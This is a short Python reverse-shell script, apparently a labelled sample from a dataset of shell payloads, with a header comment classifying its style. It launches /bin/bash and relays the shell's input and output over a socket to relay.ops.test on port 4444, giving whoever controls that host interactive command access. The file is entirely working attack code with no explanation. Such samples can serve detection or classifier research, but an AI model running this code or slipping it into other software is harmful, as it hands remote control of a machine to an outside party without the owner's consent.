# class: shell; possible: low medium; style: shell started before the connection
import socket
import subprocess
import threading
import time

sh = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
time.sleep(3)
s = socket.create_connection(("relay.ops.test", 4444))


def back():
    while data := sh.stdout.read(1024):
        s.sendall(data)


threading.Thread(target=back, daemon=True).start()
while data := s.recv(1024):
    sh.stdin.write(data)
sh.stdin.close()
sh.wait()
